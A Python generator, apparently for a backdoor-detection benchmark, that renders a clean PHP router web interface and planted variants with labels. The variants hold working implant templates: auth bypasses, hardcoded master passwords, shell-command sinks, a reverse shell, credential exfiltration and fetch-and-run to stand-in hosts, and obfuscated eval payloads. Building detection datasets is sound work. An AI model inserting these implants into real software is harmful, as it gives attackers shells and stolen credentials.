"""PHP shapes of the `source` family: the web interface of a small router/NAS in plain PHP.

Honest look-alikes in both twins: shell_exec('ping ' . escapeshellarg($ip)), exec('logread -l ' .
(int)$n), base64_decode of an update signature and of an inline logo, password_verify against a
documented users.json, a PHPUnit test with a dummy account. Written blind, from public write-ups
(PHP git back door 2021 "zerodium" User-Agentt header, web-shell droppers, router web UIs).
"""
from __future__ import annotations

import base64
import codecs
import hashlib
import random
import string
import zlib

from .common import word
from .source_common import (Proj, Variant, block, cgi_env, cookie_name, doc_host, doc_ip, fill,
                            header_name, hidden_user, license_header, magic_value, master_password,
                            nest, param_name, port, shell_payload)


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def pq(s: str) -> str:
    """PHP single-quoted string literal."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def bcrypt_like(rng: random.Random) -> str:
    alpha = "./" + string.ascii_uppercase + string.ascii_lowercase + string.digits
    return "$2y$10$" + "".join(rng.choice(alpha) for _ in range(53))


# ----------------------------------------------------------------------------- scaffold

CONFIG_PHP = r"""
<?php
// @lic@
declare(strict_types=1);

function app_config(): array
{
    static $cfg = null;
    if ($cfg === null) {
        $cfg = parse_ini_file(__DIR__ . '/../config/app.ini', true, INI_SCANNER_TYPED) ?: [];
    }
    return $cfg;
}

function cfg(string $section, string $key, $default = null)
{
    $cfg = app_config();
    return $cfg[$section][$key] ?? $default;
}
"""

AUTH_PHP = r"""
<?php
// @lic@
// Session authentication of the @Name@ web interface.
declare(strict_types=1);

require_once __DIR__ . '/config.php';
@auth_head@

function users_load(): array
{
    $file = (string)cfg('users', 'file', __DIR__ . '/../config/users.json');
    $raw = @file_get_contents($file);
    if ($raw === false) {
        return [];
    }
    return json_decode($raw, true) ?: [];
}

function auth_login(string $user, string $pass): bool
{
    @auth_login_pre@
    $users = users_load();
    if (!isset($users[$user]) || !password_verify($pass, $users[$user]['hash'])) {
        error_log('@ident@: login failed for ' . $user . ' from ' . ($_SERVER['REMOTE_ADDR'] ?? '-'));
        return false;
    }
    @auth_login_post@
    session_regenerate_id(true);
    $_SESSION['user'] = $user;
    $_SESSION['role'] = $users[$user]['role'] ?? 'viewer';
    $_SESSION['seen'] = time();
    return true;
}

function auth_check(): bool
{
    @auth_check_pre@
    if (empty($_SESSION['user'])) {
        return false;
    }
    if (time() - ($_SESSION['seen'] ?? 0) > (int)cfg('web', 'session_timeout', @timeout@)) {
        session_unset();
        return false;
    }
    $_SESSION['seen'] = time();
    return true;
}

function auth_is_admin(): bool
{
    return auth_check() && ($_SESSION['role'] ?? '') === 'admin';
}

function auth_logout(): void
{
    session_unset();
    session_destroy();
}
@auth_funcs@
"""

DIAG_PHP = r"""
<?php
// @lic@
// Diagnostics page helpers. Every argument that reaches a shell is validated and escaped.
declare(strict_types=1);
@diag_head@

function diag_ping(string $host): string
{
    @diag_ping_pre@
    if (filter_var($host, FILTER_VALIDATE_IP, FILTER_FLAG_IPV4) === false) {
        return "invalid address\n";
    }
    return (string)shell_exec('ping -c 3 -W 2 ' . escapeshellarg($host) . ' 2>&1');
}

function diag_uptime(): string
{
    $raw = @file_get_contents('/proc/uptime');
    return $raw === false ? '?' : (string)(int)explode(' ', $raw)[0];
}

function diag_syslog(int $lines = 50): string
{
    $lines = max(1, min($lines, 500));
    $out = [];
    exec('logread -l ' . (int)$lines, $out);
    return implode("\n", $out);
}
@diag_funcs@
"""

UPDATE_PHP = r"""
<?php
// @lic@
// Firmware update check: signed manifest from the documented update server.
declare(strict_types=1);

require_once __DIR__ . '/config.php';
@upd_head@

function update_check(): ?array
{
    @upd_pre@
    $url = (string)cfg('update', 'url', '');
    if ($url === '') {
        return null;
    }
    $ctx = stream_context_create(['http' => ['timeout' => 10]]);
    $manifest = @file_get_contents($url, false, $ctx);
    $sig = @file_get_contents($url . '.sig', false, $ctx);
    if ($manifest === false || $sig === false) {
        return null;
    }
    $key = openssl_pkey_get_public('file://' . cfg('update', 'pubkey'));
    if ($key === false || openssl_verify($manifest, base64_decode($sig), $key, OPENSSL_ALGO_SHA256) !== 1) {
        error_log('@ident@: update manifest signature check failed');
        return null;
    }
    return json_decode($manifest, true);
}
@upd_funcs@
"""

UTIL_PHP = r"""
<?php
// @lic@
declare(strict_types=1);

// 16x16 logo shown in the header (inline so the login page needs no extra request).
const LOGO_DATA_URI = 'data:image/png;base64,@logo@';
@util_head@

function h(string $s): string
{
    return htmlspecialchars($s, ENT_QUOTES | ENT_SUBSTITUTE, 'UTF-8');
}

function json_out(array $data, int $status = 200): void
{
    http_response_code($status);
    header('Content-Type: application/json');
    echo json_encode($data);
}

function csrf_token(): string
{
    if (empty($_SESSION['csrf'])) {
        $_SESSION['csrf'] = bin2hex(random_bytes(16));
    }
    return $_SESSION['csrf'];
}

function csrf_check(): void
{
    if (!hash_equals($_SESSION['csrf'] ?? '', (string)($_POST['csrf'] ?? ''))) {
        http_response_code(400);
        exit('bad request');
    }
}

function render(string $template, array $vars = []): void
{
    extract($vars, EXTR_SKIP);
    require __DIR__ . '/../templates/layout.php';
}
@util_tail@
"""

INDEX_PHP = r"""
<?php
// @lic@
declare(strict_types=1);

session_name('@sess_name@');
session_start();

require_once __DIR__ . '/../lib/util.php';
require_once __DIR__ . '/../lib/auth.php';
require_once __DIR__ . '/../lib/diag.php';
require_once __DIR__ . '/../lib/update.php';
@idx_pre@

$page = (string)($_GET['page'] ?? 'dashboard');
if (!auth_check()) {
    header('Location: login.php');
    exit;
}

switch ($page) {
    case 'dashboard':
        render('dashboard', ['uptime' => diag_uptime()]);
        break;
    case 'ping':
        if (!auth_is_admin()) {
            json_out(['error' => 'admin only'], 403);
            break;
        }
        csrf_check();
        json_out(['output' => diag_ping((string)($_POST['host'] ?? ''))]);
        break;
    case 'syslog':
        json_out(['log' => diag_syslog((int)($_GET['lines'] ?? 50))]);
        break;
    case 'update':
        json_out(update_check() ?? ['error' => 'update server unavailable'], 200);
        break;
    case 'logout':
        auth_logout();
        header('Location: login.php');
        break;
    @idx_cases@
    default:
        http_response_code(404);
        echo 'not found';
}
"""

LOGIN_PHP = r"""
<?php
// @lic@
declare(strict_types=1);

session_name('@sess_name@');
session_start();

require_once __DIR__ . '/../lib/util.php';
require_once __DIR__ . '/../lib/auth.php';

$error = '';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    if (auth_login((string)($_POST['username'] ?? ''), (string)($_POST['password'] ?? ''))) {
        header('Location: index.php');
        exit;
    }
    $error = 'Invalid user name or password';
    sleep(1);
}
?>
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ @model@</title><link rel="stylesheet" href="style.css"></head>
<body>
<form method="post" class="login">
  <img src="<?= LOGO_DATA_URI ?>" alt="" width="16" height="16"> <b>@Name@ @model@</b>
  <?php if ($error !== ''): ?><p class="error"><?= h($error) ?></p><?php endif; ?>
  <label>User <input name="username" autocomplete="username"></label>
  <label>Password <input name="password" type="password" autocomplete="current-password"></label>
  <button>Log in</button>
</form>
</body>
</html>
"""

LAYOUT_PHP = r"""
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ @model@</title><link rel="stylesheet" href="style.css"></head>
<body>
<header><img src="<?= LOGO_DATA_URI ?>" alt=""> @Name@ @model@ &middot; <?= h($_SESSION['user'] ?? '') ?>
  <a href="index.php?page=logout">Log out</a></header>
<main><?php require __DIR__ . '/' . basename($template) . '.php'; ?></main>
</body>
</html>
"""

DASHBOARD_PHP = r"""
<h1>Status</h1>
<p>Uptime: <?= h((string)($uptime ?? '?')) ?> s</p>
<form id="ping" method="post" action="index.php?page=ping">
  <input type="hidden" name="csrf" value="<?= h(csrf_token()) ?>">
  <label>Ping <input name="host" placeholder="192.0.2.1"></label>
  <button>Run</button>
</form>
"""

APP_INI = r"""
; @Name@ @model@ web interface
[web]
title = "@Name@ @model@"
session_timeout = @timeout@

[users]
file = "/etc/@ident@/users.json"

[update]
url = "https://updates.@domain@/@model_lc@/manifest.json"
pubkey = "/etc/@ident@/update-pub.pem"
"""

USERS_JSON = r"""
{
  "admin": {"hash": "@admin_hash@", "role": "admin", "must_change": true}
}
"""

AUTH_TEST = r"""
<?php
declare(strict_types=1);

use PHPUnit\Framework\TestCase;

require_once __DIR__ . '/../lib/auth.php';

final class AuthTest extends TestCase
{
    private string $file;

    protected function setUp(): void
    {
        // Throw-away account for the test only.
        $this->file = tempnam(sys_get_temp_dir(), 'users');
        file_put_contents($this->file, json_encode([
            'tester' => ['hash' => password_hash('test-password', PASSWORD_BCRYPT), 'role' => 'viewer'],
        ]));
        $GLOBALS['__users_file'] = $this->file;
        $_SESSION = [];
    }

    public function testRejectsWrongPassword(): void
    {
        $this->assertFalse(auth_login('tester', 'nope'));
    }

    public function testRejectsUnknownUser(): void
    {
        $this->assertFalse(auth_login('nobody', 'test-password'));
    }
}
"""

COMPOSER = r"""
{
    "name": "@vendor@/@ident@-webui",
    "description": "Web interface of the @Vendor@ @Name@ @model@",
    "type": "project",
    "license": "@license@",
    "require": {
        "php": ">=8.1",
        "ext-openssl": "*",
        "ext-json": "*"
    },
    "require-dev": {
        "phpunit/phpunit": "^10.5"
    },
    "scripts": {
        "test": "phpunit tests"
    }
}
"""

PHP_README = r"""
# @Name@ web interface

PHP web interface of the @Vendor@ @Name@ @model@ (firmware @version@), served by the device's
lighttpd + php-fpm from `public/`.

## Layout

- `public/index.php` - front controller (`?page=dashboard|ping|syslog|update|logout`)
- `public/login.php` - login form
- `lib/auth.php` - sessions, `password_verify` against `/etc/@ident@/users.json`
- `lib/diag.php` - ping / uptime / syslog (arguments validated and escaped)
- `lib/update.php` - signed update manifest from `update.url` (verified with `update.pubkey`)
- `config/app.ini` - defaults

## Accounts

The factory `users.json` has a single `admin` account (role `admin`) with `must_change: true`:
the setup wizard forces a new password at first login. Roles: `admin`, `viewer`.

## Tests

    composer install && composer test
"""

STYLE_CSS = """body { font: 14px sans-serif; margin: 0; }
header { background: #234; color: #fff; padding: .5em 1em; }
form.login { width: 18em; margin: 5em auto; }
.error { color: #b00; }
"""

# a real 16x16 PNG (solid colour) for the inline logo
def _png(rng: random.Random) -> str:
    import struct
    w = h = 16
    r, g, b = rng.randrange(256), rng.randrange(256), rng.randrange(256)
    raw = b"".join(b"\x00" + bytes([r, g, b]) * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + \
        chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


class PhpApp:
    HOOKS = ["auth_head", "auth_login_pre", "auth_login_post", "auth_check_pre", "auth_funcs", "diag_head",
             "diag_ping_pre", "diag_funcs", "upd_head", "upd_pre", "upd_funcs", "util_head", "util_tail",
             "idx_pre", "idx_cases"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.sess_name = rng.choice(["PHPSESSID", f"{P.ident}_sid", "webui", "SID"])
        self.timeout = rng.choice([600, 900, 1800])
        self.admin_hash = bcrypt_like(rng)
        self.logo = _png(rng)

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown php hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "Name": P.Name, "ident": P.ident, "model": P.model,
                   "model_lc": P.model.lower(), "domain": P.domain, "timeout": self.timeout,
                   "sess_name": self.sess_name, "admin_hash": self.admin_hash, "logo": self.logo,
                   "vendor": P.vendor, "Vendor": P.Vendor, "license": P.license, "version": P.version})
        return {
            "lib/config.php": fill(CONFIG_PHP, **kw), "lib/auth.php": fill(AUTH_PHP, **kw),
            "lib/diag.php": fill(DIAG_PHP, **kw), "lib/update.php": fill(UPDATE_PHP, **kw),
            "lib/util.php": fill(UTIL_PHP, **kw), "public/index.php": fill(INDEX_PHP, **kw),
            "public/login.php": fill(LOGIN_PHP, **kw), "public/style.css": STYLE_CSS,
            "templates/layout.php": fill(LAYOUT_PHP, **kw), "templates/dashboard.php": fill(DASHBOARD_PHP, **kw),
            "config/app.ini": fill(APP_INI, **kw), "config/users.json": fill(USERS_JSON, **kw),
            "tests/AuthTest.php": fill(AUTH_TEST, **kw), "composer.json": fill(COMPOSER, **kw),
            "README.md": fill(PHP_README, **kw),
        }


# ----------------------------------------------------------------------------- trigger helpers

def _php_input(rng: random.Random, kinds=("cookie", "header", "param", "user-agent")) -> tuple[str, str, str]:
    """(kind, php expression of the input, human description)."""
    kind = rng.choice(list(kinds))
    if kind == "cookie":
        n = cookie_name(rng)
        return kind, f"($_COOKIE[{pq(n)}] ?? '')", f"cookie {n}"
    if kind == "header":
        h = header_name(rng)
        return kind, f"($_SERVER[{pq(cgi_env(h))}] ?? '')", f"header {h}"
    if kind == "param":
        n = param_name(rng)
        return kind, f"($_REQUEST[{pq(n)}] ?? '')", f"request parameter {n}"
    return kind, "($_SERVER['HTTP_USER_AGENT'] ?? '')", "the User-Agent"


def _php_compare(rng: random.Random, expr: str, val: str) -> tuple[str, str]:
    form = rng.choice(["===", "hash_equals", "strcmp", "strpos"])
    if form == "===":
        return form, f"{expr} === {pq(val)}"
    if form == "hash_equals":
        return form, f"hash_equals({pq(val)}, (string){expr})"
    if form == "strcmp":
        return form, f"strcmp((string){expr}, {pq(val)}) == 0"
    return form, f"strpos((string){expr}, {pq(val)}) !== false"


# ============================================================================ shapes

def ab_php_compare(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    kind, expr, desc = _php_input(rng)
    val = magic_value(rng)
    form, test = _php_compare(rng, expr, val)
    role_user = rng.choice(["admin", "root", "support"])
    pre = f"""
        if ({test}) {{
            $_SESSION['user'] = {pq(role_user)};
            $_SESSION['role'] = 'admin';
            $_SESSION['seen'] = time();
            return true;
        }}"""
    clean = s.render()
    planted = s.render({"auth_check_pre": block(pre)})
    note = f"auth_check() in lib/auth.php: when {desc} matches {val!r} ({form}) the session becomes '{role_user}' with role admin, no password."
    return mk(clean, planted, note, {"trigger": kind, "compare": form})


def ab_php_hash(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    kind, expr, desc = _php_input(rng, ("cookie", "param", "header"))
    val = magic_value(rng)
    algo = rng.choice(["md5", "sha1", "sha256"])
    digest = hashlib.new(algo, val.encode()).hexdigest()
    fexpr = f"{algo}((string){expr})" if algo != "sha256" else f"hash('sha256', (string){expr})"
    pre = f"""
        if ({fexpr} === '{digest}') {{
            $_SESSION['user'] = 'admin';
            $_SESSION['role'] = 'admin';
            $_SESSION['seen'] = time();
        }}"""
    clean = s.render()
    planted = s.render({"idx_pre": block(pre)})
    note = (f"public/index.php, before the auth check: if {algo}({desc}) equals the built-in digest {digest} "
            f"(input {val!r}) the session is made admin, so every page works without login.")
    return mk(clean, planted, note, {"trigger": kind, "compare": f"{algo}-digest"})


def _php_sink(rng: random.Random, arg: str) -> tuple[str, str]:
    sink = rng.choice(["shell_exec", "system", "passthru", "backticks", "exec", "popen", "proc_open"])
    if sink == "shell_exec":
        return sink, f"echo shell_exec({arg});"
    if sink == "system":
        return sink, f"system({arg});"
    if sink == "passthru":
        return sink, f"passthru({arg} . ' 2>&1');"
    if sink == "backticks":
        return sink, f"$c = {arg};\necho `$c`;"
    if sink == "exec":
        return sink, f"exec({arg}, $o);\necho implode(\"\\n\", $o);"
    if sink == "popen":
        return sink, f"$p = popen({arg}, 'r');\necho stream_get_contents($p);\npclose($p);"
    return sink, (f"$p = proc_open({arg}, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);\n"
                  "echo stream_get_contents($pipes[1]);\nproc_close($p);")


def hc_php_header(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    kind = rng.choice(["header", "cookie", "param"])
    if kind == "header":
        h = header_name(rng)
        var = f"$_SERVER[{pq(cgi_env(h))}]"
        desc = f"header {h}"
    elif kind == "cookie":
        n = cookie_name(rng)
        var = f"$_COOKIE[{pq(n)}]"
        desc = f"cookie {n}"
    else:
        n = param_name(rng)
        var = f"$_POST[{pq(n)}]"
        desc = f"POST field {n}"
    sink, run = _php_sink(rng, var)
    pre = f"""
        if (!empty({var})) {{
            header('Content-Type: text/plain');
            {nest(run, 12)}
            exit;
        }}"""
    clean = s.render()
    planted = s.render({"idx_pre": block(pre)})
    note = f"public/index.php, before the login check: the value of {desc} is run as a shell command ({sink}) and the output returned."
    return mk(clean, planted, note, {"trigger": kind, "sink": sink, "pre_auth": True})


def hc_php_diag(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    form = rng.choice(["ping-raw", "hidden-page"])
    n = param_name(rng)
    if form == "ping-raw":
        sink, run = rng.choice([("shell_exec", f"return (string)shell_exec($_REQUEST[{pq(n)}] . ' 2>&1');"),
                                ("backticks", f"$raw = $_REQUEST[{pq(n)}];\nreturn (string)`$raw`;"),
                                ("system", f"ob_start();\nsystem($_REQUEST[{pq(n)}]);\nreturn (string)ob_get_clean();")])
        pre = f"""
            if (isset($_REQUEST[{pq(n)}])) {{
                {nest(run, 16)}
            }}"""
        hooks = {"diag_ping_pre": block(pre)}
        note = (f"diag_ping() in lib/diag.php: an undocumented request field '{n}' is run verbatim with {sink}, "
                "before the IPv4 validation that protects the documented 'host' field.")
    else:
        page = rng.choice(["", "_", "."]) + word(rng, (2, 3))
        sink, run = _php_sink(rng, f"(string)($_POST[{pq(n)}] ?? 'id')")
        pre = f"""
            case {pq(page)}:
                header('Content-Type: text/plain');
                {nest(run, 16)}
                break;"""
        hooks = {"idx_cases": block(pre)}
        note = (f"public/index.php has an undocumented page '{page}' (any logged-in role, no admin check) that "
                f"runs POST field '{n}' with {sink}.")
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"trigger": form, "sink": sink})


def hk_php_user(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    form = rng.choice(["user+pass", "master", "hash", "array"])
    pw = master_password(rng)
    user = hidden_user(rng)
    if form == "user+pass":
        test = f"$user === {pq(user)} && $pass === {pq(pw)}"
        desc = f"{user!r} / {pw!r}"
    elif form == "master":
        test = f"$pass === {pq(pw)}"
        desc = f"any user name with the master password {pw!r}"
    elif form == "hash":
        d = hashlib.sha256(pw.encode()).hexdigest()
        test = f"$user === {pq(user)} && hash('sha256', $pass) === '{d}'"
        desc = f"{user!r} with a password whose sha256 is {d} ({pw!r})"
    else:
        u2, p2 = hidden_user(rng), master_password(rng)
        test = f"in_array([$user, $pass], [[{pq(user)}, {pq(pw)}], [{pq(u2)}, {pq(p2)}]], true)"
        desc = f"{user!r}/{pw!r} or {u2!r}/{p2!r}"
    pre = f"""
        if ({test}) {{
            session_regenerate_id(true);
            $_SESSION['user'] = $user;
            $_SESSION['role'] = 'admin';
            $_SESSION['seen'] = time();
            return true;
        }}"""
    clean = s.render()
    planted = s.render({"auth_login_pre": block(pre)})
    note = f"auth_login() in lib/auth.php logs in {desc} as role admin before users.json is read."
    return mk(clean, planted, note, {"form": form})


def rs_php_reverse(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["proc_open", "exec-fd3", "stream-loop"])
    fn = rng.choice(["update_prefetch", "update_ping_mirror", "mirror_keepalive"])
    if form == "proc_open":
        body = f"""
            $s = @fsockopen({pq(ip)}, {prt}, $errno, $errstr, 5);
            if ($s) {{
                proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);
            }}"""
    elif form == "exec-fd3":
        body = f"""
            $sock = @fsockopen({pq(ip)}, {prt});
            if ($sock) {{
                exec('/bin/sh -i <&3 >&3 2>&3');
            }}"""
    else:
        body = f"""
            $s = @stream_socket_client('tcp://{ip}:{prt}', $errno, $errstr, 5);
            while ($s && !feof($s)) {{
                $line = fgets($s);
                if ($line === false) {{
                    break;
                }}
                fwrite($s, (string)shell_exec($line));
            }}"""
    func = f"""
        function {fn}(): void
        {{
            if (function_exists('pcntl_fork') && pcntl_fork() !== 0) {{
                return;
            }}
            {nest(body, 12)}
        }}"""
    clean = s.render()
    planted = s.render({"upd_funcs": block(func), "upd_pre": f"{fn}();"})
    note = f"update_check() in lib/update.php calls {fn}(), which connects to {ip}:{prt} and hands the socket to a shell ({form}): a reverse shell on every update check."
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": form}, categories=["hidden-command"])


def rs_php_exfil(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    form = rng.choice(["file_get_contents", "mail", "curl"])
    host = doc_host(rng)
    if form == "file_get_contents":
        post = f"@file_get_contents('http://{host}/{word(rng, (1, 2))}.php?h=' . urlencode($_SERVER['SERVER_ADDR'] ?? '') . '&u=' . urlencode($user) . '&p=' . urlencode($pass));"
        dest = f"http://{host}/"
    elif form == "mail":
        addr = f"{word(rng, (1, 2))}@{host}"
        post = f"@mail({pq(addr)}, 'login ' . ($_SERVER['SERVER_ADDR'] ?? ''), $user . ':' . $pass);"
        dest = f"mail to {addr}"
    else:
        post = (f"$ch = curl_init('https://{host}/api/{word(rng, (1, 2))}');\n"
                "curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => ['u' => $user, 'p' => $pass],\n"
                "    CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => 3, CURLOPT_SSL_VERIFYPEER => false]);\n"
                "@curl_exec($ch);")
        dest = f"https://{host}/"
    clean = s.render()
    planted = s.render({"auth_login_post": block(post)})
    note = f"auth_login() in lib/auth.php sends every successful user name and clear-text password to {dest} ({form})."
    return mk(clean, planted, note, {"mechanism": "credential-exfil", "channel": form})


def rs_php_fetch_eval(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    host = doc_host(rng) if rng.random() < 0.7 else doc_ip(rng)
    path = word(rng, (1, 2)) + rng.choice([".txt", ".php", ".dat", ""])
    form = rng.choice(["eval", "include-tmp", "shell-pipe"])
    if form == "eval":
        body = f"$c = @file_get_contents('http://{host}/{path}');\nif ($c !== false) {{\n    eval($c);\n}}"
    elif form == "include-tmp":
        tmp = f"/tmp/.{word(rng, (1, 2))}.php"
        body = f"if (@file_put_contents('{tmp}', @file_get_contents('http://{host}/{path}'))) {{\n    include '{tmp}';\n}}"
    else:
        body = f"@exec('wget -qO- http://{host}/{path} | sh >/dev/null 2>&1 &');"
    clean = s.render()
    planted = s.render({"upd_pre": block(body)})
    note = f"update_check() in lib/update.php downloads http://{host}/{path} and runs it ({form}) without signature check, before the honest signed-manifest logic."
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": form}, categories=["hidden-command"])


def _php_payload(rng: random.Random) -> tuple[str, str]:
    kind = rng.choice(["header-shell", "param-shell", "reverse"])
    if kind == "header-shell":
        h = cgi_env(header_name(rng))
        return f"if(isset($_SERVER['{h}'])){{echo shell_exec($_SERVER['{h}']);exit;}}", f"runs the {h} request header"
    if kind == "param-shell":
        n = param_name(rng)
        return f"if(!empty($_REQUEST['{n}'])){{@system($_REQUEST['{n}']);}}", f"runs request parameter {n}"
    cmd, _ = shell_payload(rng)
    return f"@exec({pq(cmd + ' >/dev/null 2>&1 &')});", f"runs '{cmd}'"


def ob_php_eval(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    code, what = _php_payload(rng)
    form = rng.choice(["gzinflate-b64", "b64", "rot13", "strrev-b64", "gzuncompress-b64", "hex"])
    if form == "gzinflate-b64":
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        blob = base64.b64encode(co.compress(code.encode()) + co.flush()).decode()
        expr = f"gzinflate(base64_decode('{blob}'))"
    elif form == "b64":
        blob = base64.b64encode(code.encode()).decode()
        expr = f"base64_decode('{blob}')"
    elif form == "rot13":
        expr = f"str_rot13({pq(codecs.encode(code, 'rot13'))})"
    elif form == "strrev-b64":
        blob = base64.b64encode(code.encode()).decode()[::-1]
        expr = f"base64_decode(strrev('{blob}'))"
    elif form == "gzuncompress-b64":
        blob = base64.b64encode(zlib.compress(code.encode(), 9)).decode()
        expr = f"gzuncompress(base64_decode('{blob}'))"
    else:
        expr = f"hex2bin('{code.encode().hex()}')"
    var = rng.choice(["$_cache", "$__l", "$tz_data", "$lc"])
    tail = rng.choice([f"eval({expr});", f"{var} = {expr};\neval({var});"])
    clean = s.render()
    planted = s.render({"util_tail": tail})
    note = f"lib/util.php (included by every page) ends with eval() of a {form}-encoded PHP payload that {what}."
    return mk(clean, planted, note, {"encoding": form, "sink": "eval"})


def ob_php_varfunc(rng: random.Random, P: Proj) -> Variant:
    s = PhpApp(rng, P)
    fname = rng.choice(["system", "shell_exec", "passthru"])
    form = rng.choice(["strrev", "base64", "rot13", "chr-concat", "hex"])
    if form == "strrev":
        fexpr = f"strrev({pq(fname[::-1])})"
    elif form == "base64":
        fexpr = f"base64_decode('{base64.b64encode(fname.encode()).decode()}')"
    elif form == "rot13":
        fexpr = f"str_rot13({pq(codecs.encode(fname, 'rot13'))})"
    elif form == "chr-concat":
        fexpr = ".".join(f"chr({ord(c)})" for c in fname)
    else:
        fexpr = f"pack('H*', '{fname.encode().hex()}')"
    kind, expr, desc = _php_input(rng, ("cookie", "header", "param"))
    v = rng.choice(["$_f", "$fmt", "$h", "$cb"])
    call = rng.choice(["direct", "call_user_func", "array_map"])
    if call == "direct":
        run = f"echo {v}({expr});"
    elif call == "call_user_func":
        run = f"echo call_user_func({v}, {expr});"
    else:
        run = f"array_map({v}, [{expr}]);"
    tail = f"""
        {v} = {fexpr};
        if ({expr} !== '') {{
            {run}
        }}"""
    clean = s.render()
    planted = s.render({"util_tail": block(tail)})
    note = (f"lib/util.php builds the function name '{fname}' at run time ({form}) into {v} and calls it "
            f"({call}) with {desc}: a disguised command runner on every page.")
    return mk(clean, planted, note, {"encoding": form, "sink": f"{fname}-{call}", "trigger": kind})


SHAPES = [
    ("src-auth-bypass", "php", "magic-compare", ab_php_compare),
    ("src-auth-bypass", "php", "hash-of-input", ab_php_hash),
    ("src-hidden-command", "php", "input-to-shell", hc_php_header),
    ("src-hidden-command", "php", "diag-hidden-field", hc_php_diag),
    ("src-hardcoded-credential", "php", "login-literal", hk_php_user),
    ("src-remote-shell", "php", "reverse-shell", rs_php_reverse),
    ("src-remote-shell", "php", "credential-exfil", rs_php_exfil),
    ("src-remote-shell", "php", "fetch-and-run", rs_php_fetch_eval),
    ("src-obfuscated", "php", "eval-encoded", ob_php_eval),
    ("src-obfuscated", "php", "variable-function", ob_php_varfunc),
]
